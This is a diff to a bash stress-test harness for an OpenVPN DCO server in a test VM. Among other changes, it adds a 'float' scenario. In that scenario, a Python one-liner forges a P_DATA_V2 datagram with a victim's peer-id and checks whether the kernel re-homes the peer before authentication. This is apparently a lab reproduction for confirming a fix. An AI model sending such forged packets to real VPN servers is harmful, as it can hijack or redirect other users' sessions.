@@ -2,11 +2,13 @@
 # Deletion-storm scenarios against an openvpn DCO server running in the guest.
 #
 #   storm.sh run BUILD SCENARIO [N] [K]
-#     BUILD     fork | stock | upstream-2.6 | deb13 | /path/to/openvpn
+#     BUILD     fork | stock | upstream-2.6 | deb12 | deb13 | debian | /path/to/openvpn
 #               (upstream-2.6: the series up to the backport of 7791f535,
 #               i.e. what upstream's own 2.6 branch has; 'make build-upstream26')
-#               (deb13: the openvpn package from 'make deb13', installed
-#               in the guest with dpkg; see debpkg.sh)
+#               (deb12, deb13: the openvpn package from 'make deb12' or
+#               'make deb13', installed with dpkg in the guest of its
+#               release; debian: Debian's own openvpn package of the
+#               guest's release as the image has it; see debpkg.sh)
 #     SCENARIO  storm       UDP; N clients, CPU load, drop inbound VPN UDP,
 #                           wait past the keepalive timeout, count, un-drop,
 #                           all reconnect; K storms on one server process
@@ -29,6 +31,12 @@
 #               tcp-setup   TCP; established clients killed while N more
 #                           clients are each killed 0.1-3 s into their setup
 #                           (TLS, push, NEW_PEER/NEW_KEY); then N reconnect
+#               float       no storm: the reproduction of doc/ovpn-dco-float.md.
+#                           One forged P_DATA_V2 datagram from 10.77.0.3
+#                           with a connected client's peer-id; exit 0 if
+#                           the kernel moved that peer to the forger before
+#                           authenticating the packet (reproduced), 3 if
+#                           not (the module is fixed); float.json
 #     Results go to $STORM_OUT (default ./storm-results/<build>-<scenario>-<N>):
 #       storms.jsonl (one JSON object per storm), samples.csv (management
 #       poll: time,nclients,status_clients), kpeers.log (guest: time peers),
@@ -68,12 +76,12 @@ case $BUILD in
     fork) BIN=$FORK_OPENVPN ;;
     stock) BIN=$STOCK_OPENVPN ;;
     upstream-2.6) BIN=$UPSTREAM26_OPENVPN ;;
-    deb13) BIN="" ;;
+    deb12 | deb13 | debian) BIN="" ;;
     *) BIN=$BUILD; BUILD=$(basename "$(dirname "$BIN")") ;;
 esac
 BUILD_LABEL=${STORM_BUILD_LABEL:-$BUILD}
-case $SCENARIO in storm | storm-poll | tcp | mixed | overrun | sighup | sigterm | tcp-setup) ;; *) usage ;; esac
-[[ $BUILD == deb13 || -x $BIN ]] || die "openvpn binary for '$BUILD' not found: $BIN (set FORK_OPENVPN/STOCK_OPENVPN)"
+case $SCENARIO in storm | storm-poll | tcp | mixed | overrun | sighup | sigterm | tcp-setup | float) ;; *) usage ;; esac
+[[ -z $BIN || -x $BIN ]] || die "openvpn binary for '$BUILD' not found: $BIN (set FORK_OPENVPN/STOCK_OPENVPN)"
 [[ -x $CLIENT_OPENVPN ]] || die "client openvpn not found: $CLIENT_OPENVPN (set CLIENT_OPENVPN)"
 PROTO=udp
 [[ $SCENARIO == tcp* ]] && PROTO=tcp
@@ -104,6 +112,11 @@ cleanup() {
         gscp_from "$GDIR/status.log" "$OUT/status.log" 2>/dev/null
         gssh "dmesg" >"$OUT/dmesg.log" 2>/dev/null
     fi
+    # what the guest kernel said: oopses, BUGs, warnings, hung tasks
+    cp "$STORM_RUN/console.log" "$OUT/console.log" 2>/dev/null
+    cat "$OUT/dmesg.log" "$OUT/console.log" 2>/dev/null |
+        grep -E 'Oops|BUG:|WARNING:|blocked for more than|general protection|Kernel panic|Call Trace' >"$OUT/kernel.txt"
+    log "guest kernel: $(wc -l <"$OUT/kernel.txt") oops/BUG/WARNING/hung-task lines (kernel.txt; dmesg.log, console.log)"
     if ((STARTED_GUEST)); then "$STORM_DIR/guest.sh" down; fi
     log "run finished (rc=$rc); results in $OUT"
     exit "$rc"
@@ -187,10 +200,10 @@ start_server() {
     # whatever openvpn asks for (capped by net.core.rmem_max).
     gssh "sysctl -q -w net.core.rmem_default=$UDP_RMEM"
     stop_server_wait
-    if [[ $BUILD == deb13 ]]; then
+    if [[ -z $BIN ]]; then
         # shellcheck source=debpkg.sh
         . "$STORM_DIR/debpkg.sh"
-        gbin=$(guest_install_deb13)
+        if [[ $BUILD == debian ]]; then gbin=$(guest_debian_openvpn); else gbin=$(guest_install_deb "$BUILD"); fi
     else
         log "installing server binary ($BIN) and config in the guest"
         gscp_to "$BIN" "$gbin"
@@ -395,6 +408,51 @@ sigterm_result() {
     json_row "$s" null "$(kpeers)" -1 -1 null 0 0 false null "$out"
 }
 
+# float (doc/ovpn-dco-float.md): the kernel's peer table before and after
+# one forged P_DATA_V2 datagram (opcode 9, key-id 0, the victim's 3-byte
+# peer-id, 32 random bytes: no valid tag) from the second host address,
+# then until the victim's own next keepalive moves it back.
+float_addr() { gssh "dco_peers --peers $DEV" | awk -v v="$1" '$1 == v { print $2 }'; }
+float_check() {
+    local before victim vaddr fport now back="" t0 decrypt res rc
+    before=$(gssh "dco_peers --peers $DEV") || die "dco_peers --peers $DEV failed in the guest"
+    printf '%s\n' "$before" >"$OUT/float-before.txt"
+    read -r victim vaddr <<<"$before"
+    [[ -n $victim && $vaddr == "$STORM_HOST_IP:"* ]] || die "no kernel peer at $STORM_HOST_IP to forge for: $before"
+    fport=$(in_ns "$PY" -c '
+import os, socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind((sys.argv[1], 0))
+s.sendto(bytes([9 << 3]) + int(sys.argv[2]).to_bytes(3, "big") + os.urandom(32), (sys.argv[3], int(sys.argv[4])))
+print(s.getsockname()[1])' "$STORM_HOST_IP2" "$victim" "$STORM_GUEST_IP" "$STORM_VPN_PORT") ||
+        die "could not send the forged datagram"
+    event "float: forged P_DATA_V2 for peer-id $victim (at $vaddr) sent from $STORM_HOST_IP2:$fport"
+    sleep 1
+    now=$(float_addr "$victim")
+    gssh "dco_peers --peers $DEV" >"$OUT/float-after.txt" 2>&1 || true
+    event "float: the kernel has peer $victim at ${now:-nothing} 1 s later"
+    t0=$SECONDS
+    while ((SECONDS - t0 < 2 * KA_PING + 5)); do
+        back=$(float_addr "$victim")
+        [[ $back == "$vaddr" ]] && break
+        sleep 1
+    done
+    event "float: peer $victim at ${back:-nothing} after $((SECONDS - t0)) s more (the client's keepalive is ${KA_PING}s)"
+    decrypt=$(gssh "dmesg | grep -c 'error during decryption for peer $victim'; true" 2>/dev/null || echo -1)
+    if [[ $now == "$STORM_HOST_IP2:$fport" ]]; then
+        res="reproduced: one forged datagram moved peer $victim from $vaddr to $now before authentication ($decrypt decryption errors logged for it)"
+        rc=0
+    else
+        res="not reproduced: peer $victim stayed at ${now:-nothing}; the module authenticates before it floats"
+        rc=3
+    fi
+    event "float: $res"
+    printf '{"build":"%s","victim":%s,"victim_addr":"%s","forger":"%s:%s","after_forgery":"%s","after_keepalive":"%s","decrypt_errors":%s,"reproduced":%s}\n' \
+        "$BUILD_LABEL" "$victim" "$vaddr" "$STORM_HOST_IP2" "$fport" "$now" "$back" "$decrypt" \
+        "$([[ $rc == 0 ]] && echo true || echo false)" >"$OUT/float.json"
+    return "$rc"
+}
+
 one_storm() {
     local s=$1 expect_left=0 hi=$N now kp_after stale t_zero secs inst kp stf rej0 rej alive reconn outcome
     T_DROP=0 T_EXP=0 DROPS=""
@@ -556,6 +614,10 @@ else
     event "all $N connected after ${WAITED}s"
 fi
 sleep 3
+if [[ $SCENARIO == float ]]; then
+    float_check
+    exit $?
+fi
 for ((s = 1; s <= K; s++)); do
     one_storm "$s" || { log "server died in storm $s"; break; }
 done
